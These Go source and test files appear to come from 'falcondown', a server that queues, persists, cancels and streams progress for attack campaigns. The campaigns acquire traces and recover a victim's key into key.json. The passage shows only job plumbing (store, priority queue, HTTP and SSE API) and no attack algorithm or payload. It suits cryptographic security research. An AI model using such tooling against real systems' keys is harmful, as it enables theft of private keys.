			t.Fatalf("distributed=%v campaign ended %q: %+v", distributed, st, c.Snapshot())
		}
		// A fleet-backed campaign logs the coordinator's report as a fleet
		// event; a local one never does.
		sawFleet := false
		for _, e := range c.Events(0) {
			if e.Type == EventFleet {
				sawFleet = true
			}
		}
		if sawFleet != distributed {
			t.Fatalf("distributed=%v but fleet event present=%v", distributed, sawFleet)
		}
		result, err = srv.Store().LoadResult(c.ID)
		if err != nil {
			t.Fatal(err)
		}
		key, err = srv.Store().LoadKey(c.ID)
		if err != nil {
			t.Fatal(err)
		}
		sidecar, err = os.ReadFile(srv.Store().SidecarPath(c.ID))
		if err != nil {
			t.Fatal(err)
		}
		return result, key, sidecar
	}

	refResult, refKey, refSidecar := runOnce(false)
	gotResult, gotKey, gotSidecar := runOnce(true)
	if !bytes.Equal(gotResult, refResult) {
		t.Error("result.json differs between local and fleet campaigns")
	}
	if !bytes.Equal(gotKey, refKey) {
		t.Error("key.json differs between local and fleet campaigns")
	}
	if !bytes.Equal(gotSidecar, refSidecar) {
		t.Error("attack sidecar differs between local and fleet campaigns")
	}
}

func TestDistributedSpecWithoutFleetRunsLocally(t *testing.T) {
	// Graceful degradation at the service level: a distributed spec on a
	// server with no fleet configured still completes.
	srv, err := Open(t.TempDir(), Config{})
	if err != nil {
		t.Fatal(err)
	}
	srv.Start()
	defer srv.Kill()
	spec := e2eSpec()
	spec.Distributed = true
	c, err := srv.Submit(spec)
	if err != nil {
		t.Fatal(err)
	}
	if st := waitStatus(t, c); st != StatusDone {
		t.Fatalf("fleetless distributed campaign ended %q", st)
	}
}
