package campaign

import (
	"bufio"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"time"
)

// sseFrame is one parsed Server-Sent Event.
type sseFrame struct {
	id    string
	event string
	data  string
}

// readSSE consumes an SSE stream until the "end" frame (inclusive) and
// returns every frame in order.
func readSSE(t *testing.T, url string) []sseFrame {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, url, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Accept", "text/event-stream")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("SSE request: %s", resp.Status)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "text/event-stream" {
		t.Fatalf("Content-Type = %q", ct)
	}
	var frames []sseFrame
	var cur sseFrame
	sc := bufio.NewScanner(resp.Body)
	for sc.Scan() {
		line := sc.Text()
		switch {
		case line == "":
			if cur.event != "" || cur.data != "" {
				frames = append(frames, cur)
				if cur.event == "end" {
					return frames
				}
			}
			cur = sseFrame{}
		case strings.HasPrefix(line, "id: "):
			cur.id = strings.TrimPrefix(line, "id: ")
		case strings.HasPrefix(line, "event: "):
			cur.event = strings.TrimPrefix(line, "event: ")
		case strings.HasPrefix(line, "data: "):
			cur.data = strings.TrimPrefix(line, "data: ")
		}
	}
	t.Fatalf("SSE stream ended without an end frame (%d frames, scan err %v)", len(frames), sc.Err())
	return nil
}

func TestEventsOverSSE(t *testing.T) {
	srv, err := Open(t.TempDir(), Config{TenantDiskBytes: 1 << 30})
	if err != nil {
		t.Fatal(err)
	}
	srv.Start()
	defer srv.Kill()
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	c, err := srv.Submit(e2eSpec())
	if err != nil {
		t.Fatal(err)
	}
	// Connect while the campaign runs: frames must arrive as they happen
	// and the stream must close itself with the terminal status.
	frames := readSSE(t, ts.URL+"/campaigns/"+c.ID+"/events")
	last := frames[len(frames)-1]
	if last.event != "end" || last.data != `"done"` {
		t.Fatalf("final frame = %+v, want end/done", last)
	}

	// The pushed frames are exactly the long-poll event log: same types,
	// same order, same count.
	events := c.Events(0)
	if len(frames)-1 != len(events) {
		t.Fatalf("SSE pushed %d event frames, the log holds %d", len(frames)-1, len(events))
	}
	for i, e := range events {
		if frames[i].event != e.Type {
			t.Fatalf("frame %d is %q, event log says %q", i, frames[i].event, e.Type)
		}
	}

	// Resume semantics: a reconnect with ?after=<mid-stream id> replays
	// only the suffix.
	mid := events[len(events)/2].Seq
	tail := readSSE(t, ts.URL+"/campaigns/"+c.ID+"/events?after="+strconv.Itoa(mid))
	if len(tail)-1 != len(events)-mid {
		t.Fatalf("after=%d replayed %d events, want %d", mid, len(tail)-1, len(events)-mid)
	}

	// Settled accounting: the tenant's usage is the campaign's measured
	// footprint, not the submission-time estimate.
	want := dirBytes(srv.Store().Dir(c.ID))
	deadline := time.Now().Add(5 * time.Second)
	for srv.TenantDiskUsage("default") != want && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	if got := srv.TenantDiskUsage("default"); got != want {
		t.Fatalf("settled usage %d, directory holds %d", got, want)
	}
}
