package campaign

import (
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
)

// Per-campaign file names inside <root>/<id>/. The corpus and its
// checkpoint sidecar reuse the tracestore/core layouts unchanged, so all
// the salvage/resume machinery applies file-for-file; spec.json is
// immutable after creation, state.json is rewritten (atomically) on every
// transition, and result.json/key.json appear only on success.
//
// The attack sidecar (traces.fdt2.ckpt) is deliberately KEPT after a
// successful campaign: it is the durable record of the attack state, and
// the kill/restart contract ("an interrupted campaign finishes with a
// sidecar byte-identical to an uninterrupted run") is verified against
// it.
const (
	specFile   = "spec.json"
	stateFile  = "state.json"
	pubFile    = "victim.pub"
	traceFile  = "traces.fdt2"
	resultFile = "result.json"
	keyFile    = "key.json"
	// obsFile is the flight-record snapshot written beside result.json on
	// success. Diagnostic only: timings differ run to run, so it is NOT
	// part of the byte-identity artifact set the restart suite compares.
	obsFile = "obs.json"
)

// Store is the durable root directory of a server: one subdirectory per
// campaign, named by campaign ID.
type Store struct {
	root string
}

// NewStore opens (creating if needed) a store root.
func NewStore(root string) (*Store, error) {
	if err := os.MkdirAll(root, 0o755); err != nil {
		return nil, fmt.Errorf("campaign: store: %w", err)
	}
	return &Store{root: root}, nil
}

// Root returns the store root directory.
func (st *Store) Root() string { return st.root }

// Dir returns the directory of one campaign.
func (st *Store) Dir(id string) string { return filepath.Join(st.root, id) }

// TracePath returns the corpus path of one campaign (the base name; the
// writer derives shard names from it when the spec shards).
func (st *Store) TracePath(id string) string { return filepath.Join(st.Dir(id), traceFile) }

// SidecarPath returns the attack checkpoint sidecar path.
func (st *Store) SidecarPath(id string) string { return st.TracePath(id) + ".ckpt" }

// Create makes the campaign directory and persists its immutable spec.
func (st *Store) Create(id string, spec Spec) error {
	if err := os.MkdirAll(st.Dir(id), 0o755); err != nil {
		return fmt.Errorf("campaign: store: %w", err)
	}
	return writeJSONAtomic(filepath.Join(st.Dir(id), specFile), spec)
}

// SaveState persists the mutable runtime state atomically.
func (st *Store) SaveState(id string, s state) error {
	return writeJSONAtomic(filepath.Join(st.Dir(id), stateFile), s)
}

// SaveResult persists the success record and the canonical key bytes.
func (st *Store) SaveResult(id string, res Result, keyJSON []byte) error {
	if err := writeJSONAtomic(filepath.Join(st.Dir(id), resultFile), res); err != nil {
		return err
	}
	return writeBytesAtomic(filepath.Join(st.Dir(id), keyFile), keyJSON)
}

// LoadResult reads the raw result.json of a finished campaign.
func (st *Store) LoadResult(id string) ([]byte, error) {
	return os.ReadFile(filepath.Join(st.Dir(id), resultFile))
}

// LoadKey reads the canonical key.json bytes of a finished campaign.
func (st *Store) LoadKey(id string) ([]byte, error) {
	return os.ReadFile(filepath.Join(st.Dir(id), keyFile))
}

// persisted is one campaign as found on disk by Scan.
type persisted struct {
	ID    string
	Spec  Spec
	State state
}

// Scan enumerates the campaigns in the store in ID order — the boot-time
// pass a restarted server uses to rebuild its world. Directories without
// a readable spec are skipped with an error in the returned slice's
// stead (a half-created directory from a crash mid-Create is abandoned:
// the submitter never got an ID for it, so nothing references it).
func (st *Store) Scan() ([]persisted, error) {
	entries, err := os.ReadDir(st.root)
	if err != nil {
		return nil, fmt.Errorf("campaign: store scan: %w", err)
	}
	var out []persisted
	for _, e := range entries {
		if !e.IsDir() || !validID(e.Name()) {
			continue
		}
		p := persisted{ID: e.Name()}
		if err := readJSON(filepath.Join(st.Dir(p.ID), specFile), &p.Spec); err != nil {
			continue // crash mid-Create: no spec, nothing to adopt
		}
		if err := readJSON(filepath.Join(st.Dir(p.ID), stateFile), &p.State); err != nil {
			// Spec persisted but no state yet: the campaign was admitted
			// and crashed before its first transition — treat as queued.
			p.State = state{Status: StatusQueued}
		}
		out = append(out, p)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out, nil
}

// NextID returns the next unused campaign ID given the scanned set.
func NextID(existing []persisted) int {
	next := 1
	for _, p := range existing {
		if n, ok := idNum(p.ID); ok && n >= next {
			next = n + 1
		}
	}
	return next
}

// FormatID renders a campaign number as its directory name.
func FormatID(n int) string { return fmt.Sprintf("c%06d", n) }

func validID(id string) bool {
	_, ok := idNum(id)
	return ok
}

func idNum(id string) (int, bool) {
	if !strings.HasPrefix(id, "c") || len(id) < 2 {
		return 0, false
	}
	n, err := strconv.Atoi(id[1:])
	if err != nil || n <= 0 {
		return 0, false
	}
	return n, true
}

// writeJSONAtomic marshals v and writes it via temp-file + rename so a
// crash mid-write leaves either the old or the new content, never a torn
// file — the same discipline as the attack checkpoint sidecar.
func writeJSONAtomic(path string, v any) error {
	data, err := json.MarshalIndent(v, "", "  ")
	if err != nil {
		return fmt.Errorf("campaign: store: %w", err)
	}
	return writeBytesAtomic(path, append(data, '\n'))
}

func writeBytesAtomic(path string, data []byte) error {
	dir := filepath.Dir(path)
	tmp, err := os.CreateTemp(dir, filepath.Base(path)+".tmp*")
	if err != nil {
		return fmt.Errorf("campaign: store: %w", err)
	}
	if _, err := tmp.Write(data); err != nil {
		tmp.Close()
		os.Remove(tmp.Name())
		return fmt.Errorf("campaign: store: %w", err)
	}
	if err := tmp.Sync(); err != nil {
		tmp.Close()
		os.Remove(tmp.Name())
		return fmt.Errorf("campaign: store: %w", err)
	}
	if err := tmp.Close(); err != nil {
		os.Remove(tmp.Name())
		return fmt.Errorf("campaign: store: %w", err)
	}
	if err := os.Rename(tmp.Name(), path); err != nil {
		os.Remove(tmp.Name())
		return fmt.Errorf("campaign: store: %w", err)
	}
	return nil
}

func readJSON(path string, v any) error {
	data, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	if err := json.Unmarshal(data, v); err != nil {
		return fmt.Errorf("campaign: store: unparseable %s: %w", path, err)
	}
	return nil
}

// exists reports whether a path exists.
func exists(path string) bool {
	_, err := os.Stat(path)
	return !errors.Is(err, fs.ErrNotExist)
}
