package campaign

import (
	"context"
	"errors"
	"sort"
	"sync"
)

// ErrQueueFull reports that the server's bounded queue has no room for
// another campaign (HTTP 503: retry later, the backlog must drain).
var ErrQueueFull = errors.New("campaign: queue full")

// ErrTenantQuota reports that the submitting tenant already has its
// maximum number of active campaigns (HTTP 429: this tenant must wait for
// its own campaigns to finish, the server itself has capacity).
var ErrTenantQuota = errors.New("campaign: tenant quota exceeded")

// ErrDiskQuota reports that admitting the campaign would push the
// tenant's store-directory footprint past Config.TenantDiskBytes
// (HTTP 429: the tenant must cancel or wait out its own campaigns).
var ErrDiskQuota = errors.New("campaign: tenant disk quota exceeded")

// queue is a bounded priority queue of campaigns. Higher Spec.Priority
// pops first; within a priority, admission order (Campaign.seq) wins —
// deterministic, starvation-free for equal priorities.
type queue struct {
	mu     sync.Mutex
	wake   chan struct{}
	items  []*Campaign // kept sorted: best candidate at index 0
	cap    int
	closed bool
}

func newQueue(capacity int) *queue {
	return &queue{wake: make(chan struct{}), cap: capacity}
}

// before is the queue ordering: priority descending, admission ascending.
func before(a, b *Campaign) bool {
	if a.Spec.Priority != b.Spec.Priority {
		return a.Spec.Priority > b.Spec.Priority
	}
	return a.seq < b.seq
}

// push enqueues a campaign. force bypasses the capacity bound — used for
// re-adopted campaigns, which were already admitted before the restart
// and must never be dropped by a smaller queue configuration.
func (q *queue) push(c *Campaign, force bool) error {
	q.mu.Lock()
	defer q.mu.Unlock()
	if !force && q.cap > 0 && len(q.items) >= q.cap {
		return ErrQueueFull
	}
	q.items = append(q.items, c)
	sort.SliceStable(q.items, func(i, j int) bool { return before(q.items[i], q.items[j]) })
	close(q.wake)
	q.wake = make(chan struct{})
	return nil
}

// pop blocks until a campaign is available or ctx ends.
func (q *queue) pop(ctx context.Context) (*Campaign, error) {
	for {
		q.mu.Lock()
		if len(q.items) > 0 {
			c := q.items[0]
			q.items = q.items[1:]
			q.mu.Unlock()
			return c, nil
		}
		wake := q.wake
		q.mu.Unlock()
		select {
		case <-wake:
		case <-ctx.Done():
			return nil, ctx.Err()
		}
	}
}

// depth returns the number of queued campaigns.
func (q *queue) depth() int {
	q.mu.Lock()
	defer q.mu.Unlock()
	return len(q.items)
}
