package campaign

import (
	"context"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"
)

// doDelete issues DELETE /campaigns/{id}.
func doDelete(t *testing.T, url, id string) *http.Response {
	t.Helper()
	req, err := http.NewRequest(http.MethodDelete, url+"/campaigns/"+id, nil)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	return resp
}

func TestCancelQueuedCampaignFreesQuota(t *testing.T) {
	// Not started: the campaign stays queued, so DELETE takes the direct
	// terminal path and the tenant slot must free immediately.
	root := t.TempDir()
	srv, err := Open(root, Config{TenantMax: 1})
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	resp := postSpec(t, ts.URL, e2eSpec())
	snap := decodeBody[Snapshot](t, resp)
	if resp.StatusCode != http.StatusCreated {
		t.Fatalf("submit: %s", resp.Status)
	}

	resp = doDelete(t, ts.URL, snap.ID)
	got := decodeBody[Snapshot](t, resp)
	if resp.StatusCode != http.StatusOK || got.Status != StatusCancelled {
		t.Fatalf("cancel: %s %+v, want 200 cancelled", resp.Status, got)
	}

	// The quota slot freed: the same tenant submits again at TenantMax 1.
	resp = postSpec(t, ts.URL, e2eSpec())
	resp.Body.Close()
	if resp.StatusCode != http.StatusCreated {
		t.Fatalf("post-cancel submit: %s, want 201 (quota slot not freed)", resp.Status)
	}

	// Cancelling again is a conflict; unknown IDs are 404.
	resp = doDelete(t, ts.URL, snap.ID)
	resp.Body.Close()
	if resp.StatusCode != http.StatusConflict {
		t.Fatalf("double cancel: %s, want 409", resp.Status)
	}
	resp = doDelete(t, ts.URL, "c009999")
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Fatalf("cancel unknown: %s, want 404", resp.Status)
	}

	// A cancelled queue entry is dropped, not run: start the server and
	// confirm the campaign never leaves its terminal state.
	srv.Start()
	defer srv.Kill()
	time.Sleep(50 * time.Millisecond)
	if c, _ := srv.Get(snap.ID); c.Status() != StatusCancelled {
		t.Fatalf("cancelled campaign went %q after Start", c.Status())
	}
}

func TestCancelRunningCampaign(t *testing.T) {
	root := t.TempDir()
	srv, err := Open(root, Config{})
	if err != nil {
		t.Fatal(err)
	}
	srv.Start()
	defer srv.Kill()
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	// A trace budget far beyond what the test waits for keeps the
	// campaign mid-acquisition when the cancel lands.
	spec := e2eSpec()
	spec.Traces = 2_000_000
	resp := postSpec(t, ts.URL, spec)
	snap := decodeBody[Snapshot](t, resp)

	c, ok := srv.Get(snap.ID)
	if !ok {
		t.Fatal("campaign vanished")
	}
	deadline := time.Now().Add(30 * time.Second)
	for c.Status() != StatusAcquiring {
		if time.Now().After(deadline) {
			t.Fatalf("campaign never started acquiring: %+v", c.Snapshot())
		}
		time.Sleep(5 * time.Millisecond)
	}

	resp = doDelete(t, ts.URL, snap.ID)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("cancel running: %s, want 200", resp.Status)
	}
	if st := waitStatus(t, c); st != StatusCancelled {
		t.Fatalf("cancelled campaign ended %q", st)
	}

	// The terminal event is in the stream, and the terminal state is
	// durable: a restarted server lists the campaign as cancelled and does
	// NOT re-adopt it.
	var sawEvent bool
	for _, e := range c.Events(0) {
		if e.Type == EventCancelled {
			sawEvent = true
		}
	}
	if !sawEvent {
		t.Fatalf("no %q event in %+v", EventCancelled, c.Events(0))
	}
	srv.Kill()
	srv2, err := Open(root, Config{})
	if err != nil {
		t.Fatal(err)
	}
	if adopted := srv2.Adopted(); len(adopted) != 0 {
		t.Fatalf("restart re-adopted cancelled campaign(s) %v", adopted)
	}
	c2, ok := srv2.Get(snap.ID)
	if !ok || c2.Status() != StatusCancelled {
		t.Fatalf("restarted server sees status %q, want cancelled", c2.Status())
	}
}

func TestCancelDistinctFromShutdown(t *testing.T) {
	// A graceful Stop also cancels the runner context, but must leave the
	// campaign re-adoptable — only DELETE may make it terminal.
	root := t.TempDir()
	srv, err := Open(root, Config{})
	if err != nil {
		t.Fatal(err)
	}
	srv.Start()
	spec := e2eSpec()
	spec.Traces = 2_000_000
	c, err := srv.Submit(spec)
	if err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(30 * time.Second)
	for c.Status() != StatusAcquiring {
		if time.Now().After(deadline) {
			t.Fatalf("campaign never started acquiring: %+v", c.Snapshot())
		}
		time.Sleep(5 * time.Millisecond)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := srv.Stop(ctx); err != nil {
		t.Fatalf("stop: %v", err)
	}
	if st := c.Status(); terminal(st) {
		t.Fatalf("graceful shutdown made the campaign terminal (%q); only DELETE may", st)
	}
	srv2, err := Open(root, Config{})
	if err != nil {
		t.Fatal(err)
	}
	if adopted := srv2.Adopted(); len(adopted) != 1 {
		t.Fatalf("restart adopted %v, want the stopped campaign", adopted)
	}
}
