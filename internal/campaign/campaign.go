package campaign

import (
	"context"
	"sync"
)

// Campaign statuses. A status names where the campaign is in its
// lifecycle; "acquiring" and "attacking" are the in-flight states a
// restarted server re-adopts from their durable artifacts (salvageable
// corpus, checkpoint sidecar).
const (
	StatusQueued    = "queued"
	StatusAcquiring = "acquiring"
	StatusAttacking = "attacking"
	StatusDone      = "done"
	StatusFailed    = "failed"
	StatusCancelled = "cancelled"
)

// terminal reports whether a status is final.
func terminal(status string) bool {
	return status == StatusDone || status == StatusFailed || status == StatusCancelled
}

// Campaign is one submitted attack campaign: the immutable spec plus the
// mutable runtime state the server tracks and persists.
type Campaign struct {
	// ID is the server-assigned identifier ("c000001", ...), doubling as
	// the store directory name.
	ID string
	// Spec is the normalized submission.
	Spec Spec

	// seq is the admission order, the FIFO tie-break within a priority.
	seq int
	// dir is the campaign's store directory.
	dir string
	// adopted marks a campaign re-admitted from disk by a restarted
	// server rather than submitted over the API.
	adopted bool
	// diskCharge is the tenant disk-quota bytes currently accounted to
	// this campaign (estimate while in flight, measured footprint once
	// settled). Guarded by Server.mu, not c.mu.
	diskCharge int64

	log *eventLog

	mu       sync.Mutex
	status   string
	phase    string // last completed attack phase
	acquired int    // traces durable so far
	errMsg   string
	// cancel aborts the campaign's runner context once it is executing;
	// cancelReq distinguishes a per-campaign cancellation from a
	// whole-server shutdown (both surface as context.Canceled).
	cancel    context.CancelFunc
	cancelReq bool
}

// begin registers the runner's cancel function, or refuses when the
// campaign reached a terminal state (e.g. cancelled while still queued)
// between pop and start.
func (c *Campaign) begin(cancel context.CancelFunc) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	if terminal(c.status) {
		return false
	}
	c.cancel = cancel
	if c.cancelReq {
		// Cancelled in the pop→begin window: start already aborted.
		cancel()
	}
	return true
}

// cancelRequested reports whether a per-campaign cancel was asked for.
func (c *Campaign) cancelRequested() bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.cancelReq
}

// Snapshot is a point-in-time view of a campaign's state, JSON-shaped for
// the status endpoints.
type Snapshot struct {
	ID       string `json:"id"`
	Tenant   string `json:"tenant"`
	Name     string `json:"name,omitempty"`
	Priority int    `json:"priority,omitempty"`
	Status   string `json:"status"`
	// Phase is the last completed attack phase (empty until the first
	// checkpoint lands).
	Phase string `json:"phase,omitempty"`
	// Acquired counts traces durable in the campaign's corpus.
	Acquired int `json:"acquired"`
	Traces   int `json:"traces"`
	// Adopted marks a campaign re-admitted from disk after a restart.
	Adopted bool   `json:"adopted,omitempty"`
	Error   string `json:"error,omitempty"`
}

// Snapshot returns the campaign's current state.
func (c *Campaign) Snapshot() Snapshot {
	c.mu.Lock()
	defer c.mu.Unlock()
	return Snapshot{
		ID:       c.ID,
		Tenant:   c.Spec.Tenant,
		Name:     c.Spec.Name,
		Priority: c.Spec.Priority,
		Status:   c.status,
		Phase:    c.phase,
		Acquired: c.acquired,
		Traces:   c.Spec.Traces,
		Adopted:  c.adopted,
		Error:    c.errMsg,
	}
}

// Status returns the current lifecycle status.
func (c *Campaign) Status() string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.status
}

// Events returns the events with sequence numbers greater than after.
func (c *Campaign) Events(after int) []Event {
	return c.log.Since(after)
}

// WaitEvents blocks until at least one event past after exists or the
// context ends, then returns whatever is available (possibly empty on
// timeout) — the long-poll primitive behind GET /campaigns/{id}/events.
func (c *Campaign) WaitEvents(ctx context.Context, after int) []Event {
	return c.log.Wait(ctx, after)
}

// state is the persisted slice of the runtime state (state.json); the
// spec is stored separately so state rewrites stay small and the spec
// file is immutable after creation.
type state struct {
	Status   string `json:"status"`
	Phase    string `json:"phase,omitempty"`
	Acquired int    `json:"acquired,omitempty"`
	Error    string `json:"error,omitempty"`
}

// setState updates the in-memory state; the caller persists separately
// (the runner owns the persist-then-announce ordering).
func (c *Campaign) setState(status, phase string, errMsg string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.status = status
	if phase != "" {
		c.phase = phase
	}
	if errMsg != "" {
		c.errMsg = errMsg
	}
}

// setAcquired updates the durable trace count.
func (c *Campaign) setAcquired(count int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.acquired = count
}

// currentState snapshots the persistable slice of the state.
func (c *Campaign) currentState() state {
	c.mu.Lock()
	defer c.mu.Unlock()
	return state{Status: c.status, Phase: c.phase, Acquired: c.acquired, Error: c.errMsg}
}
