package campaign

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"runtime"
	"strconv"
	"strings"
	"time"

	"falcondown/internal/obs"
)

// maxSpecBytes bounds a submission body; a Spec is a flat scalar struct,
// so anything beyond this is garbage, not a big campaign.
const maxSpecBytes = 1 << 16

// maxLongPoll caps the events long-poll wait.
const maxLongPoll = 60 * time.Second

// Handler returns the server's HTTP API:
//
//	POST /campaigns                     submit a Spec        -> 201 {id}
//	GET  /campaigns                     list snapshots
//	GET  /campaigns/{id}                one snapshot
//	DELETE /campaigns/{id}              cancel -> 200 snapshot (409 if terminal)
//	GET  /campaigns/{id}/events?after=N&wait=S   long-poll progress
//	  (with Accept: text/event-stream: SSE push until terminal)
//	GET  /campaigns/{id}/result         result.json when done (409 otherwise)
//	GET  /campaigns/{id}/key            canonical key.json bytes when done
//	GET  /healthz                       liveness + queue depth
//
// Submission errors map to: 400 (invalid spec), 429 + Retry-After (tenant
// quota), 503 + Retry-After (queue full).
func (s *Server) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /campaigns", s.handleSubmit)
	mux.HandleFunc("GET /campaigns", s.handleList)
	mux.HandleFunc("GET /campaigns/{id}", s.handleGet)
	mux.HandleFunc("DELETE /campaigns/{id}", s.handleCancel)
	mux.HandleFunc("GET /campaigns/{id}/events", s.handleEvents)
	mux.HandleFunc("GET /campaigns/{id}/result", s.handleResult)
	mux.HandleFunc("GET /campaigns/{id}/key", s.handleKey)
	mux.HandleFunc("GET /healthz", s.handleHealth)
	return mux
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	enc.Encode(v)
}

type errorBody struct {
	Error string `json:"error"`
}

func writeError(w http.ResponseWriter, status int, msg string) {
	writeJSON(w, status, errorBody{Error: msg})
}

func (s *Server) handleSubmit(w http.ResponseWriter, r *http.Request) {
	var spec Spec
	dec := json.NewDecoder(http.MaxBytesReader(w, r.Body, maxSpecBytes))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&spec); err != nil {
		writeError(w, http.StatusBadRequest, "unparseable spec: "+err.Error())
		return
	}
	c, err := s.Submit(spec)
	switch {
	case err == nil:
		writeJSON(w, http.StatusCreated, c.Snapshot())
	case errors.Is(err, ErrTenantQuota), errors.Is(err, ErrDiskQuota):
		w.Header().Set("Retry-After", "30")
		writeError(w, http.StatusTooManyRequests, err.Error())
	case errors.Is(err, ErrQueueFull):
		w.Header().Set("Retry-After", "30")
		writeError(w, http.StatusServiceUnavailable, err.Error())
	default:
		writeError(w, http.StatusBadRequest, err.Error())
	}
}

func (s *Server) handleList(w http.ResponseWriter, r *http.Request) {
	writeJSON(w, http.StatusOK, s.List())
}

// campaignFor resolves {id} or replies 404.
func (s *Server) campaignFor(w http.ResponseWriter, r *http.Request) (*Campaign, bool) {
	c, ok := s.Get(r.PathValue("id"))
	if !ok {
		writeError(w, http.StatusNotFound, "no such campaign")
	}
	return c, ok
}

func (s *Server) handleGet(w http.ResponseWriter, r *http.Request) {
	c, ok := s.campaignFor(w, r)
	if !ok {
		return
	}
	writeJSON(w, http.StatusOK, c.Snapshot())
}

func (s *Server) handleCancel(w http.ResponseWriter, r *http.Request) {
	c, ok := s.campaignFor(w, r)
	if !ok {
		return
	}
	snap, err := s.Cancel(c.ID)
	switch {
	case err == nil:
		writeJSON(w, http.StatusOK, snap)
	case errors.Is(err, ErrTerminal):
		writeJSON(w, http.StatusConflict, snap)
	default:
		writeError(w, http.StatusInternalServerError, err.Error())
	}
}

// eventsBody is the long-poll response: the events past the requested
// cursor, the cursor to pass next, and the current status so a poller can
// stop once the campaign is terminal without a second request.
type eventsBody struct {
	Events []Event `json:"events"`
	Next   int     `json:"next"`
	Status string  `json:"status"`
}

func (s *Server) handleEvents(w http.ResponseWriter, r *http.Request) {
	c, ok := s.campaignFor(w, r)
	if !ok {
		return
	}
	after := 0
	if v := r.URL.Query().Get("after"); v != "" {
		n, err := strconv.Atoi(v)
		if err != nil || n < 0 {
			writeError(w, http.StatusBadRequest, "after must be a non-negative integer")
			return
		}
		after = n
	}
	if strings.Contains(r.Header.Get("Accept"), "text/event-stream") {
		s.streamEvents(w, r, c, after)
		return
	}
	// A terminal campaign appends no further events, so blocking would
	// only run the poll timeout down — answer immediately instead. The
	// status is re-read after any wait so a poller that was woken by the
	// final event sees the terminal status in the same response.
	var events []Event
	if v := r.URL.Query().Get("wait"); v != "" && !terminal(c.Status()) {
		secs, err := strconv.Atoi(v)
		if err != nil || secs < 0 {
			writeError(w, http.StatusBadRequest, "wait must be a non-negative integer (seconds)")
			return
		}
		wait := min(time.Duration(secs)*time.Second, maxLongPoll)
		ctx, cancel := context.WithTimeout(r.Context(), wait)
		events = c.WaitEvents(ctx, after)
		cancel()
	} else {
		events = c.Events(after)
	}
	next := after
	if n := len(events); n > 0 {
		next = events[n-1].Seq
	}
	writeJSON(w, http.StatusOK, eventsBody{Events: events, Next: next, Status: c.Status()})
}

// streamEvents serves the campaign's progress as Server-Sent Events, the
// push alternative to the long-poll: each Event is one SSE frame
// (id = Seq, event = Type, data = the Event JSON), and the stream closes
// with an "end" frame carrying the terminal status once the campaign
// finishes. A reconnecting client resumes with ?after=<last id>.
func (s *Server) streamEvents(w http.ResponseWriter, r *http.Request, c *Campaign, after int) {
	fl, ok := w.(http.Flusher)
	if !ok {
		writeError(w, http.StatusNotImplemented, "response writer cannot stream")
		return
	}
	h := w.Header()
	h.Set("Content-Type", "text/event-stream")
	h.Set("Cache-Control", "no-cache")
	h.Set("Connection", "keep-alive")
	w.WriteHeader(http.StatusOK)
	fl.Flush()
	emit := func(evs []Event) {
		for _, e := range evs {
			data, _ := json.Marshal(e)
			fmt.Fprintf(w, "id: %d\nevent: %s\ndata: %s\n\n", e.Seq, e.Type, data)
			after = e.Seq
		}
		if len(evs) > 0 {
			fl.Flush()
		}
	}
	for {
		emit(c.Events(after))
		if terminal(c.Status()) {
			// The status flips terminal just before the terminal event is
			// appended; one bounded wait closes the stream complete
			// instead of torn.
			ctx, cancel := context.WithTimeout(r.Context(), 2*time.Second)
			emit(c.WaitEvents(ctx, after))
			cancel()
			fmt.Fprintf(w, "event: end\ndata: %q\n\n", c.Status())
			fl.Flush()
			return
		}
		ctx, cancel := context.WithTimeout(r.Context(), maxLongPoll)
		evs := c.WaitEvents(ctx, after)
		cancel()
		if len(evs) == 0 {
			if r.Context().Err() != nil {
				return // client went away
			}
			// Idle keep-alive comment so proxies do not cut the stream.
			fmt.Fprint(w, ": keepalive\n\n")
			fl.Flush()
			continue
		}
		emit(evs)
	}
}

func (s *Server) handleResult(w http.ResponseWriter, r *http.Request) {
	c, ok := s.campaignFor(w, r)
	if !ok {
		return
	}
	if st := c.Status(); st != StatusDone {
		writeJSON(w, http.StatusConflict, c.Snapshot())
		return
	}
	data, err := s.store.LoadResult(c.ID)
	if err != nil {
		if errors.Is(err, os.ErrNotExist) {
			writeError(w, http.StatusConflict, "result not yet persisted")
			return
		}
		writeError(w, http.StatusInternalServerError, err.Error())
		return
	}
	w.Header().Set("Content-Type", "application/json")
	w.Write(data)
}

func (s *Server) handleKey(w http.ResponseWriter, r *http.Request) {
	c, ok := s.campaignFor(w, r)
	if !ok {
		return
	}
	if st := c.Status(); st != StatusDone {
		writeJSON(w, http.StatusConflict, c.Snapshot())
		return
	}
